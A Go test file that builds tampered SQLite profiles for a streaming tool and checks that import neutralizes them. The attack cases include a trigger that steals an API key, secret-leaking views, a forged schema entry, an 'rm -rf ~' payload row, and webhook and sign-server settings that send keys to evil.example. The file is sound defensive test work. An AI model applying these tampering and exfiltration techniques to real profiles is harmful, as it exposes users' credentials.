package store

import (
	"bytes"
	"database/sql"
	"flag"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

var writeCorpus = flag.Bool("write-corpus", false, "rewrite testdata/malicious from buildMalicious")

const corpusDir = "testdata/malicious"

// The malicious profiles: each is a real LTTH profile an attacker edited
// with the sqlite3 shell. buildMalicious makes them; the committed files in
// testdata/malicious are its output (go test -run TestMaliciousCorpus
// -args -write-corpus).
var maliciousCases = map[string]string{
	// runs a program: a browser path (with a forged confirmation), a saved
	// target, only the browser source, a sign server that gets the key.
	"program": `INSERT INTO settings VALUES ('tiktok.browserPath', '/tmp/ltth-evil/chromium', 0),
		('tiktok.browserPathConfirmed', '/tmp/ltth-evil/chromium', 0),
		('tiktok.target', 'victim', 0), ('tiktok.sources', '["browser"]', 0),
		('tiktok.signServerUrl', 'https://evil.example/sign?key=stolen', 0)`,
	// a trigger on events copies the API key into a variable and points the
	// sign server elsewhere the first time an event is journaled.
	"trigger": `INSERT INTO settings VALUES ('tiktok.apiKey', 'euler-key-0123456789', 0);
		CREATE TRIGGER steal AFTER INSERT ON events BEGIN
			INSERT OR REPLACE INTO variables VALUES ('loot', (SELECT json_quote(value) FROM settings WHERE key = 'tiktok.apiKey'), 0);
			INSERT OR REPLACE INTO settings VALUES ('tiktok.signServerUrl', 'https://evil.example/sign', 0);
		END;
		CREATE TRIGGER steal_flows BEFORE UPDATE ON flows BEGIN SELECT 1; END`,
	// a view in place of a real table (gift_sounds) and a view of secrets.
	"view": `INSERT INTO settings VALUES ('tiktok.sessionId', 'session-secret-abcdef', 0);
		DROP TABLE gift_sounds;
		CREATE VIEW gift_sounds AS SELECT 1 AS gift_id, value AS label, '' AS sound_url, 1.0 AS volume,
			'' AS animation_url, '' AS animation_type, 1.0 AS animation_volume, 0 AS updated_at FROM settings;
		CREATE VIEW leak AS SELECT * FROM settings`,
	// an extra table, an extra column, an extra index, planted review rows.
	"extra": `CREATE TABLE payload (x TEXT); INSERT INTO payload VALUES ('rm -rf ~');
		ALTER TABLE settings ADD COLUMN note TEXT DEFAULT 'extra';
		INSERT INTO settings (key, value, updated_at) VALUES ('theme', 'dark', 0);
		CREATE INDEX settings_note ON settings (note);
		INSERT INTO pending_review (kind, key, value, reason, created_at) VALUES ('setting', 'tiktok.browserPath', '/bin/sh', '', 0)`,
	// virtual tables: one of ours replaced by an FTS table, an extra one,
	// and a forged schema entry naming a module that does not exist.
	"virtual": `DROP TABLE user_voices;
		CREATE VIRTUAL TABLE user_voices USING fts4(user_id, unique_id, nickname, engine, voice, enabled, updated_at);
		INSERT INTO user_voices VALUES ('1', 'x', 'x', 'evil', 'evil', 1, 0);
		CREATE VIRTUAL TABLE notes USING fts4(body);
		PRAGMA writable_schema = ON;
		INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'ghost', 'ghost', 0, 'CREATE VIRTUAL TABLE ghost USING evilmod()');
		PRAGMA writable_schema = OFF`,
	// secrets, and a webhook flow sending them with a header.
	"secrets": `INSERT INTO settings VALUES ('tiktok.apiKey', 'euler-key-0123456789', 0),
		('tiktok.sessionId', 'session-secret-abcdef', 0), ('obs.password', 'obs-pass-123', 0);
		INSERT INTO flows VALUES ('hook', 'Every gift', 1, '{"id":"hook","name":"Every gift","enabled":true,
			"triggers":[{"type":"tiktok.gift"}],"actions":[{"type":"webhook.send","config":{"url":"https://evil.example/c?k=1",
			"headers":{"Authorization":"Bearer header-secret-xyz"}}}]}', 0, 0)`,
}

// buildMalicious writes each malicious profile into dir.
func buildMalicious(t *testing.T, dir string) {
	t.Helper()
	m := newManager(t)
	for name, attack := range maliciousCases {
		path := profileFile(t, m, name)
		raw := openRW(path)
		if _, err := raw.Exec(attack); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		// small pages keep the committed files small
		if _, err := raw.Exec(`PRAGMA journal_mode = DELETE; PRAGMA page_size = 512; VACUUM`); err != nil {
			t.Fatal(err)
		}
		mustNil(t, raw.Close())
		b, err := os.ReadFile(path)
		mustNil(t, err)
		mustNil(t, os.WriteFile(filepath.Join(dir, name+".db"), b, 0o644))
	}
}

func corpusFiles(t *testing.T) map[string][]byte {
	t.Helper()
	if *writeCorpus {
		buildMalicious(t, corpusDir)
	}
	out := map[string][]byte{}
	for name := range maliciousCases {
		b, err := os.ReadFile(filepath.Join(corpusDir, name+".db"))
		if err != nil {
			t.Fatalf("corpus file missing (regenerate with -args -write-corpus): %v", err)
		}
		out[name] = b
	}
	return out
}

// schemaObjects lists every object in a database as "type name".
func schemaObjects(t *testing.T, db *sql.DB) []string {
	t.Helper()
	rows, err := db.Query(`SELECT type || ' ' || name FROM sqlite_master WHERE name NOT LIKE 'sqlite_%' ORDER BY 1`)
	mustNil(t, err)
	defer rows.Close()
	var out []string
	for rows.Next() {
		var s string
		mustNil(t, rows.Scan(&s))
		out = append(out, s)
	}
	return out
}

func TestMaliciousCorpus(t *testing.T) {
	files := corpusFiles(t)
	m := newManager(t)
	clean, err := m.Open("clean")
	mustNil(t, err)
	want := schemaObjects(t, clean.SQL())
	clean.Close()
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			mustNil(t, m.Import(name, bytes.NewReader(files[name])))
			db, err := m.Open(name)
			mustNil(t, err)
			defer db.Close()
			if got := schemaObjects(t, db.SQL()); strings.Join(got, ",") != strings.Join(want, ",") {
				t.Fatalf("schema of the imported profile differs from ours:\n got %v\nwant %v", got, want)
			}
			checkNeutralized(t, name, db)
		})
	}
}

func checkNeutralized(t *testing.T, name string, db *DB) {
	t.Helper()
	settings, err := db.Settings()
	mustNil(t, err)
	for _, k := range append(append([]string{}, QuarantinedSettings...), DroppedSettings...) {
		if v, ok := settings[k]; ok {
			t.Errorf("%s is active after import: %q", k, v)
		}
	}
	review, err := db.PendingReview()
	mustNil(t, err)
	for _, it := range review {
		if strings.Contains(it.Value, "stolen") || strings.Contains(strings.Join(it.Headers, ","), "header-secret") {
			t.Errorf("review item shows a secret: %+v", it)
		}
	}
	switch name {
	case "program":
		if len(review) != 2 || review[0].Value != "/tmp/ltth-evil/chromium" || !strings.Contains(review[0].Reason, "run") {
			t.Fatalf("review items %+v", review)
		}
		if settings["tiktok.target"] != "victim" {
			t.Errorf("harmless settings must survive: %v", settings)
		}
	case "trigger":
		_, err := db.SQL().Exec(insertEvent, "1", 1, "chat", "u", "u", `{}`)
		mustNil(t, err)
		vars, _ := db.Variables()
		s2, _ := db.Settings()
		if _, ok := vars["loot"]; ok || s2["tiktok.signServerUrl"] != "" {
			t.Fatalf("the planted trigger ran: vars %v settings %v", vars, s2)
		}
	case "view":
		var n int
		mustNil(t, db.SQL().QueryRow(`SELECT count(*) FROM gift_sounds`).Scan(&n))
		if n != 0 {
			t.Fatalf("a view's rows were imported as gift sounds: %d", n)
		}
	case "virtual":
		var n int
		mustNil(t, db.SQL().QueryRow(`SELECT count(*) FROM user_voices`).Scan(&n))
		if n != 0 {
			t.Fatalf("rows of a virtual table were imported: %d", n)
		}
	case "extra":
		if settings["theme"] != "dark" || len(review) != 0 {
			t.Fatalf("known data lost or planted review kept: %v %+v", settings, review)
		}
	case "secrets":
		flows, _ := db.ListFlows()
		if len(flows) != 1 || flows[0].Enabled || strings.Contains(string(flows[0].Definition), `"enabled":true`) {
			t.Fatalf("webhook flow not disabled: %+v", flows)
		}
		if len(review) != 1 || review[0].Kind != ReviewFlow || review[0].Headers[0] != "Authorization" ||
			!strings.Contains(review[0].Webhooks[0], "evil.example") {
			t.Fatalf("review %+v", review)
		}
	}
}
